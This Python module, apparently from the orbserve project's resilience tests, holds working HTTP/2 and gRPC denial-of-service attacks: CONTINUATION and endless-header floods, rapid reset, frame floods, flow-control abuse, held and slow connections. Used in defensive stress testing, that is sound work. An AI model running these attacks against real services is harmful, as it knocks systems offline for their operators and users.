# SPDX-FileCopyrightText: 2026 The orbserve authors
# SPDX-License-Identifier: Apache-2.0
"""Attacks by connections and by frames of HTTP/2 that no gRPC client sends.

Each function attacks the server at `address` until `end` (time.monotonic()); `scale` multiplies the connections. A
connection that the server closes is made again, as an attacker would. Returns what it has done, for the report.
"""

import errno
import itertools
import os
import select
import socket
import ssl
import struct
import threading
import time

from http2 import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, call_headers, connect, connect_http2, frame, integer, literal, text)

EXTRACT = "/orbserve.v1.Features/Extract"
HEALTH = "/grpc.health.v1.Health/Check"
WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
PAUSE_S = 0.01  # before a closed connection is made again


class Sender:
    """A connection that sends what `make` yields, as fast as the server takes it, and throws answers away."""

    def __init__(self, address, make, acknowledge=True, read=True):
        self.address, self.make, self.acknowledge, self.read = address, make, acknowledge, read
        self.socket, self.pending, self.sent, self.closed, self.again = None, b"", 0, 0, 0.0

    def open(self):
        try:
            self.socket = connect_http2(self.address, self.acknowledge)
        except OSError:
            self.again = time.monotonic() + PAUSE_S
            return
        self.socket.setblocking(False)
        self.chunks, self.pending = self.make(), b""

    def close(self):
        if self.socket is not None:
            self.socket.close()
        self.socket = None

    def lost(self):
        self.closed += 1
        self.close()
        self.again = time.monotonic() + PAUSE_S

    def step(self):
        """Sends and reads what goes without waiting."""
        try:
            if self.read:
                try:
                    if not self.socket.recv(1 << 16):
                        return self.lost()
                except WOULD_BLOCK:
                    pass
            if not self.pending:
                self.pending = next(self.chunks)
            count = self.socket.send(self.pending)
            self.sent += count
            self.pending = self.pending[count:]
        except WOULD_BLOCK:
            pass
        except OSError:
            self.lost()


def flood(address, end, count, make, **options):
    senders = [Sender(address, make, **options) for _ in range(count)]
    while (now := time.monotonic()) < end:
        for sender in senders:
            if sender.socket is None and now >= sender.again:
                sender.open()
        ready = [sender.socket for sender in senders if sender.socket is not None]
        if not ready:
            time.sleep(PAUSE_S)
            continue
        _, writable, _ = select.select([], ready, [], 0.1)
        busy = set(writable)
        for sender in senders:
            if sender.socket in busy:
                sender.step()
    for sender in senders:
        sender.close()
    return {
        "connections": count,
        "mb_sent": round(sum(sender.sent for sender in senders) / 1e6, 1),
        "closed_by_server": sum(sender.closed for sender in senders),
    }


def batches(frames, size=1 << 16):
    """Joins frames into pieces of about `size` bytes."""
    piece, length = [], 0
    for item in frames:
        piece.append(item)
        length += len(item)
        if length >= size:
            yield b"".join(piece)
            piece, length = [], 0


def continuation_flood(address, end, scale):
    block = literal("x-more", "y" * 1000)

    def make():
        yield frame(HEADERS, 0, 1, call_headers(EXTRACT))
        yield from batches(frame(CONTINUATION, 0, 1, block * 15) for _ in itertools.count())

    return flood(address, end, scale, make)


def empty_continuation_flood(address, end, scale):
    def make():
        yield frame(HEADERS, 0, 1, call_headers(EXTRACT))
        yield from batches(itertools.repeat(frame(CONTINUATION, 0, 1)))

    return flood(address, end, 4 * scale, make)


def endless_header(address, end, scale):
    """One header whose value is announced with 2 GB and goes on and on."""

    def make():
        start = b"\x00" + text("x-endless") + integer((1 << 31) - 1, 7)
        yield frame(HEADERS, 0, 1, call_headers(EXTRACT) + start)
        yield from batches(frame(CONTINUATION, 0, 1, b"z" * 16000) for _ in itertools.count())

    return flood(address, end, 4 * scale, make)


def refused_by_the_server(address, end, scale):
    """Calls that the server itself resets, because their messages break gRPC's framing."""
    headers = call_headers(EXTRACT)
    broken = b"\xff\x00\x00\x00\x05hello"

    def make():
        def frames():
            for stream in range(1, 1 << 31, 2):
                yield frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, 0, stream, broken)

        yield from batches(frames())

    return flood(address, end, 4 * scale, make)


def expired_calls(address, end, scale):
    """Calls whose deadline has passed when they arrive: the server cancels them."""
    headers = call_headers(EXTRACT) + literal("grpc-timeout", "1n")

    def make():
        def frames():
            for stream in range(1, 1 << 31, 2):
                yield frame(HEADERS, END_HEADERS, stream, headers)

        yield from batches(frames())

    return flood(address, end, 4 * scale, make)


def rapid_reset(address, end, scale):
    """Calls that are cancelled as soon as they are made."""
    headers = call_headers(EXTRACT)
    cancel = struct.pack(">I", 8)

    def make():
        def frames():
            for stream in range(1, 1 << 31, 2):
                yield frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, cancel)

        yield from batches(frames())

    return flood(address, end, 4 * scale, make)


def reset_with_request(address, end, scale):
    """Calls with a whole request, which reach the service before they are cancelled."""
    headers = call_headers(HEALTH)
    request = b"\x00\x00\x00\x00\x00"
    cancel = struct.pack(">I", 8)

    def make():
        def frames():
            for stream in range(1, 1 << 31, 2):
                yield (frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, request)
                       + frame(RST_STREAM, 0, stream, cancel))

        yield from batches(frames())

    return flood(address, end, 4 * scale, make)


def unacknowledged_calls(address, end, scale):
    """Calls without end on connections that never acknowledge the server's limit of calls."""
    headers = call_headers(EXTRACT)

    def make():
        yield from batches(frame(HEADERS, END_HEADERS, stream, headers) for stream in range(1, 1 << 31, 2))

    return flood(address, end, 4 * scale, make, acknowledge=False)


def one_frame_flood(kind, flags, stream, payload):
    def attack(address, end, scale):
        item = frame(kind, flags, stream, payload)
        return flood(address, end, 4 * scale, lambda: batches(itertools.repeat(item)))

    return attack


settings_flood = one_frame_flood(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
ping_flood = one_frame_flood(PING, 0, 0, b"12345678")
priority_flood = one_frame_flood(PRIORITY, 0, 1, struct.pack(">IB", 0, 16))
unknown_frame_flood = one_frame_flood(0xBE, 0, 0, b"")
window_flood = one_frame_flood(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def unread_settings_flood(address, end, scale):
    """SETTINGS whose acknowledgements are never read."""
    item = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
    return flood(address, end, 4 * scale, lambda: batches(itertools.repeat(item)), read=False)


def empty_data_flood(address, end, scale):
    def make():
        yield frame(HEADERS, END_HEADERS, 1, call_headers(EXTRACT))
        yield from batches(itertools.repeat(frame(DATA, 0, 1)))

    return flood(address, end, 4 * scale, make)


def crumbs(address, end, scale):
    """A message of 90 MB in DATA frames of one byte: each is a slice of its own to gRPC."""

    def make():
        yield frame(HEADERS, END_HEADERS, 1, call_headers(EXTRACT))
        yield frame(DATA, 0, 1, b"\x00" + struct.pack(">I", 90_000_000))
        yield from batches(itertools.repeat(frame(DATA, 0, 1, b"c")))

    return flood(address, end, 4 * scale, make)


def unfinished_messages(address, end, scale):
    """Many calls on each connection, each with a large message that never ends."""
    headers = call_headers(EXTRACT)
    piece = b"u" * 16384

    def make():
        streams = range(1, 401, 2)
        for stream in streams:
            yield frame(HEADERS, END_HEADERS, stream, headers) + frame(
                DATA, 0, stream, b"\x00" + struct.pack(">I", 90_000_000))
        # As far as the windows of the streams go; that of the connection is not looked at.
        for _ in itertools.count():
            for stream in streams:
                yield frame(DATA, 0, stream, piece)

    return flood(address, end, 4 * scale, make)


class Windows:
    """Keeps to flow control: `room` says how much DATA a stream may send."""

    def __init__(self):
        self.connection, self.initial, self.streams, self.buffer = 65535, 65535, {}, b""

    def received(self, data):
        self.buffer += data
        answers = []
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big")
            payload, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
            if kind == WINDOW_UPDATE:
                more = int.from_bytes(payload, "big")
                if stream == 0:
                    self.connection += more
                elif stream in self.streams:
                    self.streams[stream] += more
            elif kind == SETTINGS and not flags & ACK:
                for at in range(0, length, 6):
                    name, value = struct.unpack(">HI", payload[at:at + 6])
                    if name == 4:
                        for known in self.streams:
                            self.streams[known] += value - self.initial
                        self.initial = value
                answers.append(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                answers.append(frame(PING, ACK, 0, payload))
            elif kind == RST_STREAM:
                self.streams.pop(stream, None)
        return b"".join(answers)

    def take(self, stream, most):
        count = max(0, min(most, self.connection, self.streams.get(stream, 0)))
        self.connection -= count
        if count:
            self.streams[stream] -= count
        return count


def unfinished_uploads(address, end, scale):
    """As unfinished_messages(), by the rules of flow control: the server asks for all of it."""
    headers = call_headers(EXTRACT)
    connections, sent, closed = [], 0, 0

    def open_one():
        made = connect_http2(address)
        windows = Windows()
        for stream in range(1, 401, 2):
            windows.streams[stream] = windows.initial
            made.sendall(frame(HEADERS, END_HEADERS, stream, headers))
        made.setblocking(False)
        return made, windows, set(), [b""]

    while time.monotonic() < end:
        while len(connections) < 4 * scale:
            try:
                connections.append(open_one())
            except OSError:
                time.sleep(PAUSE_S)
                break
        moved = False
        for entry in list(connections):
            made, windows, begun, pending = entry
            try:
                try:
                    data = made.recv(1 << 18)
                    if not data:
                        raise OSError("closed")
                    pending[0] += windows.received(data)
                except WOULD_BLOCK:
                    pass
                if len(pending[0]) < 1 << 18:
                    parts = [pending[0]]
                    for stream in list(windows.streams):
                        if stream not in begun and windows.take(stream, 5) == 5:
                            begun.add(stream)
                            parts.append(frame(DATA, 0, stream, b"\x00" + struct.pack(">I", 90_000_000)))
                        count = windows.take(stream, 16384) if stream in begun else 0
                        if count:
                            parts.append(frame(DATA, 0, stream, b"u" * count))
                    pending[0] = b"".join(parts)
                if pending[0]:
                    count = made.send(pending[0])
                    sent += count
                    pending[0] = pending[0][count:]
                    moved = True
            except WOULD_BLOCK:
                pass
            except OSError:
                made.close()
                connections.remove(entry)
                closed += 1
        if not moved:
            time.sleep(0.005)
    for made, *_ in connections:
        made.close()
    return {"connections": 4 * scale, "mb_sent": round(sent / 1e6, 1), "closed_by_server": closed}


def hoarded_messages(address, end, scale):
    """Connections that begin a message of 50 MB each, send as much as the server reads at once, and then a byte now and then."""
    headers = call_headers(EXTRACT)
    begin = frame(HEADERS, END_HEADERS, 1, headers) + frame(DATA, 0, 1, b"\x00" + struct.pack(">I", 50_000_000))
    pieces = frame(DATA, 0, 1, b"h" * 16384) * 3  # within the first window
    made, opened, closed = [], 0, 0
    while time.monotonic() < end:
        if len(made) < 100 * scale:
            try:
                made.append(connect_http2(address))
                made[-1].sendall(begin + pieces)
                opened += 1
                continue
            except OSError:
                pass
        for each in list(made):
            try:
                each.send(frame(DATA, 0, 1, b"h"))
            except OSError:
                made.remove(each)
                closed += 1
        time.sleep(0.1)
    for each in made:
        each.close()
    return {"connections": opened, "closed_by_server": closed}


def hold(address, end, count, start):
    """Holds `count` connections that have sent `start` and then say nothing."""
    held, refused, closed = [], 0, 0
    poll = select.poll()
    while time.monotonic() < end:
        if len(held) < count:
            try:
                made = connect(address, timeout_s=1.0)
                if start:
                    made.sendall(start)
                held.append(made)
                poll.register(made, select.POLLIN | select.POLLHUP)
                continue
            except OSError as error:
                refused += 1
                if error.errno == errno.EMFILE:
                    raise
        gone = set()
        for number, events in poll.poll(20):
            by_number = next((s for s in held if s.fileno() == number), None)
            if by_number is None:
                continue
            try:
                if events & (select.POLLHUP | select.POLLERR) or not by_number.recv(1 << 16):
                    gone.add(by_number)
            except OSError:
                gone.add(by_number)
        for made in gone:
            poll.unregister(made)
            made.close()
        closed += len(gone)
        held = [made for made in held if made not in gone]
    result = {"connections": count, "held_at_end": len(held), "closed_by_server": closed, "refused": refused}
    for made in held:
        made.close()
    return result


def many_connections(address, end, scale):
    return hold(address, end, 80 * scale, PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))


def very_many_connections(address, end, scale):
    return hold(address, end, 1100 * scale, PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))


def without_preface(address, end, scale):
    return hold(address, end, 200 * scale, b"")


def half_a_preface(address, end, scale):
    return hold(address, end, 200 * scale, PREFACE[:10])


def reconnects(address, end, scale):
    """Connections that are made and closed as fast as it goes."""
    made_count = 0
    while time.monotonic() < end:
        batch = []
        for _ in range(20 * scale):
            try:
                batch.append(connect_http2(address))
            except OSError:
                time.sleep(PAUSE_S)
        made_count += len(batch)
        for made in batch:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            made.close()
    return {"connections_made": made_count}


def slow_http(address, end, scale):
    """Connections to the HTTP port that send a byte now and then."""
    held = []
    closed = 0
    request = itertools.cycle(b"GET /metrics HTTP/1.1\r\nX-Slow: " + b"s" * 4000)
    while time.monotonic() < end:
        while len(held) < 150 * scale:
            try:
                held.append(connect(address, timeout_s=1.0))
            except OSError:
                break
        piece = bytes([next(request)])
        for made in list(held):
            try:
                made.sendall(piece)
            except OSError:
                made.close()
                held.remove(made)
                closed += 1
        time.sleep(0.3)
    for made in held:
        made.close()
    return {"connections": 150 * scale, "closed_by_server": closed}


def http_resets(address, end, scale):
    """Requests for a page whose connections are reset before it comes."""
    counts = [0] * 8 * scale

    def reset(number):
        while time.monotonic() < end:
            try:
                made = connect(address, timeout_s=1.0)
                made.sendall(b"GET /metrics HTTP/1.1\r\n\r\n")
                made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                made.close()
                counts[number] += 1
            except OSError:
                time.sleep(0.01)

    threads = [threading.Thread(target=reset, args=(number,)) for number in range(len(counts))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {"resets": sum(counts)}
